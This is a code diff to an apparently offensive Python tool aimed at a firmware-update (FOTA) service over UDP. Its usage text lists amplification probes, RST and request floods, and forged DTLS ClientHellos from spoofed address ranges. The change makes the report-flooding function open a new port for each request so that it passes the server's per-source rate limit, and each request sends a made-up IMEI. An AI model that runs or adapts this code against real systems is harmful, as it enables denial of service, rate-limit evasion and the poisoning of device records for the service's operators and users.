@@ -8,7 +8,8 @@ datagrams and seconds, and prints one result line.
   amp PORT SRC KEY          each small-request kind once; "KIND req ans ratio"
   rate PORT SRC N           N tiny GET /fota from one port; max answer ratio
   rst PORT SRC N            N four-byte RSTs (no key needed)
-  report PORT SRC N IMEI|- N POST /report (- = a new IMEI each); codes seen
+  report PORT SRC N IMEI|- N POST /report, each from a new port (- = a new
+                            IMEI each); codes seen
   raw PORT SRC HEX          one datagram, its answer as "code len"
   hello PORT SRC0 NADDR RATE SECONDS   14-byte forged DTLS ClientHello
                             records from NADDR addresses starting at SRC0,
@@ -101,12 +102,13 @@ def rst(port, src, n):
     print('RST sent=%d bytes=%d seconds=%.1f' % (n, 4 * n, time.time() - t))
 
 def report(port, src, n, imei):
-    s = sock(src); s.settimeout(1)
     codes = {}
     for i in range(n):
+        s = sock(src); s.settimeout(1)  # a new port each: past the per-source rate_limit
         im = imei if imei != '-' else '86%013d' % (i + random.randrange(10**9) * 1000)
         m = pdu(2, i & 0xffff, ['report'], payload=('imei=%s&result=0&detail=flood' % im).encode())
         r = ask(s, port, m)
+        s.close()
         codes[code(r)] = codes.get(code(r), 0) + 1
     print('REPORT ' + ' '.join('%s=%d' % kv for kv in sorted(codes.items())))
 
